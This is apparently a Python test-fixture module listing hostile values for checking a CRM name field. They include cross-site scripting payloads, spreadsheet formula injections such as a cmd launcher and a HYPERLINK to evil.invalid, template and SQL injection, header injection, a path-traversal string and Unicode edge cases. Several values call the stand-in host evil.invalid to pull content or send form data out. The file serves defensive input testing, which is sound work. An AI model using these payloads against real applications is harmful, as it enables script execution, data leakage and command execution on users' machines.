"""Values that people type by mistake and others on purpose: markup, formulas, templates, quotes, marks, look-alikes.

Every payload calls `__hit` with a number of its own, asks evil.invalid for something, or calculates a number that
stands nowhere else; so what ran says which value it was. None of them names a person.
"""

from dataclasses import dataclass

NAME_CHARS = 100  # what a name field of the CRM holds


@dataclass(frozen=True, slots=True)
class Hostile:
    """One value. key: what it tries; text: at most NAME_CHARS characters, none at its ends that forms take away.

    refused: a name field must not take it (line breaks, look-alikes of surrogates that nobody was given).
    """

    key: str
    text: str
    refused: bool = False


_TEMPLATES: tuple[tuple[str, str], ...] = (
    ("image with handler", "<img src=x onerror=window.__hit({n})>"),
    ("handler that sets a mark", "<img src=x onerror=window.__hit_set=1>"),
    ("out of an attribute", '"><svg onload=__hit({n})>'),
    ("out of a single-quoted attribute", "'><svg/onload=__hit({n})>"),
    ("end of a script", "</script><script>__hit({n})</script>"),
    ("formula: command", "=cmd|' /C calc'!A0"),
    ("template, double braces", "{{{{7*7}}}} {{{{1000003*7}}}}"),
    ("entities", "&lt;img src=x onerror=__hit({n})&gt;"),
    ("entities, escaped twice", "&amp;lt;img src=x onerror=__hit({n})&amp;gt;"),
    ("quotes of all kinds", 'O\'Brien "Bob" «Jan» „x“ ‘y’ `z` ´ 「山田」『x』 \'\'""'),
    ("right-to-left and bidi marks", "مرحبا \u202egnp.exe\u202c \u2066x\u2069 \u200fעברית\u200e!"),
    ("rare Han outside the basic plane", "𠮷田𠀋龘𪚥"),
    ("end of a comment", "--><script>__hit({n})</script><!--"),
    ("address that runs", "javascript:__hit({n})"),
    ("end of a script string", '";__hit({n});//'),
    ("backslash before a quote", "\\\";__hit({n});//\\';__hit({n});//"),
    ("formula: plus", "+1+1"),
    ("formula: at", "@SUM(1)"),
    ("header injection, encoded", "Bob%0d%0aSet-Cookie:%20hit={n}"),
    ("surrogate of a name, typed", "Zqabcdefghijkl2m"),
    ("end of a textarea", "</textarea><script>__hit({n})</script>"),
    ("100 rare characters", "𠮷" * NAME_CHARS),
    ("emoji", "👩‍👩‍👧‍👦🇨🇳👍🏽❤️"),
    ("template, dollar", "${{7*7}} ${{1000003*7}} #{{1000003*7}}"),
    # What follows is left out of the short form.
    ("image from elsewhere", "<img src=https://evil.invalid/{n}>"),
    ("style from elsewhere", "<style>@import'https://evil.invalid/{n}'</style>"),
    ("end of a title", "</title><script>__hit({n})</script>"),
    ("end of a style", "</style></noscript><script>__hit({n})</script>"),
    ("handler in an attribute", '" onmouseover=__hit({n}) onfocus=__hit({n}) autofocus x="'),
    ("handler in an unquoted attribute", "x onmouseover=__hit({n}) onfocus=__hit({n})"),
    ("end of a script string, single", "';__hit({n});//"),
    ("template string of a script", "`-__hit({n})-`"),
    ("line separators in a script", "a\u2028__hit({n})\u2029b"),
    ("closing bracket of JSON", '"}}]}}--></script><svg onload=__hit({n})>'),
    ("frame with a page", "<iframe srcdoc='<script>parent.__hit({n})</script>'>"),
    ("frame that runs", "<iframe src=javascript:parent.__hit({n})>"),
    ("page in an address", "data:text/html,<script>__hit({n})</script>"),
    ("details that open", "<details open ontoggle=__hit({n})>"),
    ("foreign content", "<math><mtext></p><img src=x onerror=__hit({n})>"),
    ("form of its own", "</form><form action=https://evil.invalid/{n}><input name=q>"),
    ("base address", "<base href=https://evil.invalid/>"),
    ("refresh", "<meta http-equiv=refresh content=0;url=https://evil.invalid/>"),
    ("numeric entities", "&#60;img src=x onerror=__hit({n})&#62;"),
    ("percent escapes", "%3Cimg src=x onerror=__hit({n})%3E"),
    ("script escapes", "\\u003cimg src=x onerror=__hit({n})\\u003e\\x3csvg\\x3e"),
    ("full-width brackets", "＜img src=x onerror=__hit({n})＞＂＇＆"),
    ("CDATA end", "]]><svg onload=__hit({n})>"),
    ("alert", "javascript:alert(1)//<b onclick=alert({n})>"),
    ("template, constructor", "{{{{constructor.constructor('__hit({n})')()}}}}"),
    ("template, Django", "{{% now 'Y' %}}{{{{ 1000009|add:'8000072' }}}}"),
    ("template, ERB", "<%= 1000003*7 %>{{{{=7*7}}}}[[7*7]]"),
    ("formula: minus", "-2+3"),
    ("formula: address", '=HYPERLINK("https://evil.invalid/{n}","x")'),
    ("formula: full-width", "＝1+1"),
    ("formula: pipe", "|calc"),
    ("formula: in quotes", '"=1+1"'),
    ("semicolons and commas", 'a,b;c\td|e"f"'),
    ("apostrophe in front", "'tis"),
    ("backslashes", "C:\\new\\table\\u0041\\\\"),
    ("zero width", "Zha\u200bng\u200dWe\u2060i\ufeff!"),
    ("soft hyphen and odd spaces", "a\u00ad  b\u00a0c\u3000d"),
    ("combining marks", "Z\u0351\u036b\u0343a\u0489\u030al\u0315go e\u0301 \u00e9"),
    ("not normalised", "ﬁ Ⅷ ① ｶﾞ Å Å"),
    ("100 characters", "字" * NAME_CHARS),
    ("SQL", "Robert'); DROP TABLE persons_contact;--"),
    ("filter language", '%_*?[a-z]" OR "1"="1'),
    ("JSON", '{{"a":[1,"x"],"__hit":{n}}}'),
    ("JSON list", "[1,2]"),
    ("words of programs", "null"),
    ("number", "1e5"),
    ("number with zero", "0012345"),
    ("true", "true"),
    ("path", "../../../../etc/passwd"),
    ("surrogate of a phone, typed", "+888 7 1234567 123"),
    ("surrogate of an e-mail, typed", "e.abcdefghijklmnopqrstuvwxyz234567@enc.invalid"),
    ("sealed text, typed", "~G1.AAAAAAAAAAAAAAAA"),
)
REFUSED = frozenset(
    {
        "line separators in a script",
        "surrogate of a name, typed",
        "surrogate of a phone, typed",
        "surrogate of an e-mail, typed",
    }
)
SHORT = 24
MASKS = ("138****8000", "z***@example.com", "••••••", "张**")


def hostile_values(count: int = len(_TEMPLATES)) -> list[Hostile]:
    """The first `count` values, each with its own number."""
    return [
        Hostile(key, text.format(n=number), key in REFUSED) for number, (key, text) in enumerate(_TEMPLATES[:count])
    ]
